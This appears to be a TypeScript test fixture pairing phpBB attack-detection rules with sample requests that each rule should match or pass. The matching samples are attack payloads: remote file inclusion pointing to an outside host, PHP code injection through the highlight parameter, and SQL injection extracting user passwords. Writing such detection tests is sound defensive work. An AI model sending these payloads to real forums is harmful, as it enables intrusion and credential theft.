// For each rule of slr-et-phpbb-attacks.ts by its id: a request that it matches, and one that it passes.
import type { RuleSamples } from '../request-sample.cases.ts'
import { get } from './sample-requests.cases.ts'

export const SLR_ET_PHPBB_ATTACKS_SAMPLES: RuleSamples = {
  d5202331925dc246517850cf989fbebe: {
    matching: get('/forum/includes/functions.php?phpbb_root_path=http://192.0.2.66/x?'),
    passing: get('/forum/viewtopic.php?t=12&root_path=forum'),
  },
  '960fe79a87fef47a051599a61cec354d': {
    matching: get('/viewtopic.php?t=1&highlight=%2527.system(chr(105)).%2527'),
    passing: get('/viewtopic.php?t=1&highlight=file+system+of+linux'),
  },
  e7da47a2678da3fa14252abe45064d89: {
    matching: get('/viewtopic.php?t=1+union+select+1,user_password+from+phpbb_users'),
    passing: get('/viewtopic.php?f=2&t=1041&start=20'),
  },
}
